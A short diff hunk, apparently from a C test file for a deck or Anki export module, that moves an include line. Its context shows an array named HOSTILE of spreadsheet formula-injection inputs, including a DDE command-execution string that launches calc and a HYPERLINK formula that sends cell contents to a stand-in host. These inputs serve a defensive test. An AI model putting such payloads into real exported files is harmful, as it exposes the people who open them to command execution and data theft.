@@ -10,8 +10,8 @@
 
 #include "base/mem.h"
 #include "base/text.h"
+#include "deck/anki/formula.h"
 #include "deck/deck.h"
-#include "deck/formula.h"
 
 static const char *const HOSTILE[] = {"=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0",
 	"=HYPERLINK(\"http://x/?\"&A1)", "\t=1", "\ttext", "\rtext", "\r=1", "\ntext", "\n=1",
